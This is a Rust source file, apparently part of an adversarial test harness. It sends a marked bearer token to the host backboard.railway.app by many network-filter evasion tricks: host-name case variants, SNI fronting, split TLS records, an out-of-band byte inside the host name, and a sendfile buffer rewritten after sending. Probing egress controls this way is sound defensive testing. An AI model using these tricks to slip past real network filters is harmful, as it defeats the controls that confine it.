//! The send: what the marked request looks like, and the calls that it is sent by.

use std::{
    fs::File,
    io::{self, IoSlice, Write as _},
    os::{
        fd::{AsFd as _, OwnedFd},
        unix::fs::FileExt as _,
    },
    thread,
};

use rustix::{
    event::PollFlags,
    fs::{MemfdFlags, memfd_create},
    io::Errno,
    net::{
        SendAncillaryBuffer, SendFlags, send, sendmsg, sendto,
        sockopt::{set_tcp_cork, set_tcp_nodelay},
    },
    pipe::{SpliceFlags, splice},
};

use super::{
    super::act::{Form, How, Means, To},
    connection, lineage,
    plan::Player,
    waiting::{pause, ready},
};

const NAME: &str = "backboard.railway.app";
const HARMLESS: &str = "docs.some-example.org";
/// `MSG_FASTOPEN`, which rustix has no name for.
const FAST_OPEN: SendFlags = SendFlags::from_bits_retain(0x2000_0000);
/// Longest wait for room in a socket, milliseconds.
const ROOM: u16 = 500;
/// Bytes of a session id of TLS.
const SESSION_ID: usize = 32;

impl Player {
    pub(super) fn send(&mut self, form: Form, by: Means, pieces: u8, gap: u16) -> io::Result<()> {
        let token = self.plan.token.as_deref().ok_or_else(|| io::Error::other("nothing was touched"))?;
        let request = request(form, &format!("{token}.{}.", self.plan.number));
        if by == Means::FastOpen {
            let fresh = connection::socket_for(To::V4)?;
            sendto(&fresh, &request, FAST_OPEN, &connection::place(To::V4, How::Plain))?;
            self.connection = Some(fresh);
            return Ok(());
        }
        let connection = match self.connection.take() {
            Some(connection) => connection,
            None => connection::make(To::V4, How::Plain, None)?,
        };
        let sent = transmit(&connection, &request, by, pieces, gap);
        self.connection = Some(connection);
        sent
    }
}

fn transmit(connection: &OwnedFd, request: &[u8], by: Means, pieces: u8, gap: u16) -> io::Result<()> {
    ready(connection, PollFlags::OUT, ROOM)?;
    let size = request.len().div_ceil(usize::from(pieces.max(1)));
    let pieces: Vec<&[u8]> = request.chunks(size.max(1)).collect();
    let one_by_one = |flags: SendFlags| {
        pieces.iter().enumerate().try_for_each(|(place, piece)| {
            if place > 0 {
                pause(gap);
            }
            let is_last = place + 1 == pieces.len();
            whole(connection, piece, if is_last { SendFlags::empty() } else { flags })
        })
    };
    match by {
        Means::Write => one_by_one(SendFlags::empty()),
        Means::More => one_by_one(SendFlags::MORE),
        Means::EndOfRecord => {
            let _ = set_tcp_nodelay(connection, true); // a datagram's socket has no such thing
            one_by_one(SendFlags::EOR)
        }
        Means::Cork => {
            set_tcp_cork(connection, true)?;
            one_by_one(SendFlags::empty())?;
            pause(gap);
            Ok(set_tcp_cork(connection, false)?)
        }
        Means::Writev => {
            let slices: Vec<IoSlice<'_>> = pieces.iter().map(|piece| IoSlice::new(piece)).collect();
            rustix::io::writev(connection, &slices)?;
            Ok(())
        }
        Means::Sendmsg => {
            let slices: Vec<IoSlice<'_>> = pieces.iter().map(|piece| IoSlice::new(piece)).collect();
            sendmsg(connection, &slices, &mut SendAncillaryBuffer::default(), SendFlags::NOSIGNAL)?;
            Ok(())
        }
        Means::Sendfile => by_sendfile(connection, request).map(drop),
        Means::ChangedPage => {
            let file = by_sendfile(connection, &harmless(request))?;
            file.write_all_at(request, 0)
        }
        Means::Splice => {
            let (reader, writer) = rustix::pipe::pipe()?;
            File::from(writer).write_all(request)?;
            splice(&reader, None, connection, None, request.len(), SpliceFlags::empty())?;
            Ok(())
        }
        Means::Urgent => {
            let place = request.windows(9).position(|word| word.eq_ignore_ascii_case(b"backboard"));
            let (before, after) = request.split_at(place.map_or(0, |place| place + 4));
            whole(connection, before, SendFlags::empty())?;
            whole(connection, b"!", SendFlags::OOB)?;
            pause(gap);
            whole(connection, after, SendFlags::empty())
        }
        Means::Threads => pieces.iter().try_for_each(|piece| {
            let sent =
                thread::scope(|scope| scope.spawn(|| whole(connection, piece, SendFlags::empty())).join());
            sent.map_err(|_| io::Error::other("it panicked"))?
        }),
        Means::Child => {
            let said = lineage::by_child(|| one_by_one(SendFlags::empty()).map(|()| "sent".to_owned()))?;
            if said == "sent" { Ok(()) } else { Err(io::Error::other("the child could not")) }
        }
        Means::FastOpen => Err(io::ErrorKind::Unsupported.into()),
    }
}

/// Sends all of it, waiting where there is no room.
fn whole(connection: &OwnedFd, mut bytes: &[u8], flags: SendFlags) -> io::Result<()> {
    while !bytes.is_empty() {
        match send(connection, bytes, flags | SendFlags::NOSIGNAL) {
            Ok(sent) => bytes = bytes.get(sent..).unwrap_or_default(),
            Err(Errno::AGAIN) if ready(connection.as_fd(), PollFlags::OUT, ROOM)? => {}
            Err(why) => return Err(why.into()),
        }
    }
    Ok(())
}

fn by_sendfile(connection: &OwnedFd, bytes: &[u8]) -> io::Result<File> {
    let mut file = File::from(memfd_create("request", MemfdFlags::CLOEXEC)?);
    file.write_all(bytes)?;
    let mut from = 0;
    rustix::fs::sendfile(connection, &file, Some(&mut from), bytes.len())?;
    Ok(file)
}

/// The same request with another name of the same length.
fn harmless(request: &[u8]) -> Vec<u8> {
    let mut other = request.to_vec();
    for place in 0..other.len() {
        if other[place..].starts_with(NAME.as_bytes()) {
            other[place..place + NAME.len()].copy_from_slice(HARMLESS.as_bytes());
        }
    }
    other
}

/// A request for the control plane with the mark in it.
fn request(form: Form, mark: &str) -> Vec<u8> {
    let http = |path: &str, name: &str, before: &str| {
        format!(
            "POST {path} HTTP/1.1\r\n{before}Host: {name}\r\nAuthorization: Bearer {mark}\r\nContent-Length: 0\r\n\r\n"
        )
        .into_bytes()
    };
    match form {
        Form::Http => http("/graphql/v2", NAME, ""),
        Form::HttpSpelling => http("/graphql/v2", "BackBoard.RAILWAY.app.:80", ""),
        Form::HttpAbsolute => http(&format!("http://{NAME}/graphql/v2"), NAME, ""),
        Form::HttpLateName => {
            let headers: String = (0..20).map(|n| format!("X-{n}: {}\r\n", "a".repeat(40))).collect();
            http("/graphql/v2", NAME, &format!("X-Token: {mark}\r\n{headers}"))
        }
        Form::Hello => record(&hello(NAME, mark)),
        Form::HelloSpelling => record(&hello("BackBoard.RAILWAY.app", mark)),
        Form::HelloFronted => record(&hello(HARMLESS, mark)),
        Form::HelloRecords => {
            let hello = hello(NAME, mark);
            let (first, second) = hello.split_at(90);
            [record(first), record(second)].concat()
        }
        Form::Bare => format!("{mark}\n").into_bytes(),
    }
}

/// Lengths are of two bytes or three in TLS; nothing here is longer.
fn sized<const WIDTH: usize>(bytes: &[u8]) -> Vec<u8> {
    let length = u32::try_from(bytes.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[4 - WIDTH..], bytes].concat()
}

fn record(fragment: &[u8]) -> Vec<u8> {
    [&[0x16, 3, 1], sized::<2>(fragment).as_slice()].concat()
}

/// A ClientHello of TLS 1.2, with its server's name and the mark as its session's id.
fn hello(name: &str, mark: &str) -> Vec<u8> {
    let mut id = mark.as_bytes().to_vec();
    id.resize(SESSION_ID, b'.');
    let name = sized::<2>(&[&[0], sized::<2>(name.as_bytes()).as_slice()].concat());
    let extensions = sized::<2>(&[&[0, 0], sized::<2>(&name).as_slice()].concat());
    let body = [
        &[3, 3],
        &[7_u8; 32] as &[u8],
        &sized::<1>(&id),
        &sized::<2>(&[0xc0, 0x2f, 0xc0, 0x30]),
        &sized::<1>(&[0]),
        &extensions,
    ]
    .concat();
    [&[1], sized::<3>(&body).as_slice()].concat()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::adversary::grammar::FORMS;

    #[test]
    fn every_form_has_the_mark_whole() {
        for form in FORMS {
            let request = request(form, "not-real-0000.4294967295.");
            assert!(request.windows(25).any(|word| word == b"not-real-0000.4294967295."), "{form:?}");
        }
    }

    #[test]
    fn another_name_changes_nothing_else() {
        for form in FORMS {
            let (request, other) = (request(form, "m"), harmless(&request(form, "m")));
            let back = other.windows(NAME.len()).any(|word| word == NAME.as_bytes());
            assert!(request.len() == other.len() && !back, "{form:?}");
        }
        assert_ne!(harmless(&request(Form::Hello, "m")), request(Form::Hello, "m"));
    }

    #[test]
    fn a_greetings_lengths_are_right() {
        let record = record(&hello(NAME, "m"));
        assert_eq!(usize::from(u16::from_be_bytes([record[3], record[4]])), record.len() - 5);
        assert_eq!(usize::from(record[8]), record.len() - 9);
        assert_eq!(record[9 + 2 + 32], 32);
        assert!(record.ends_with(NAME.as_bytes()));
    }
}
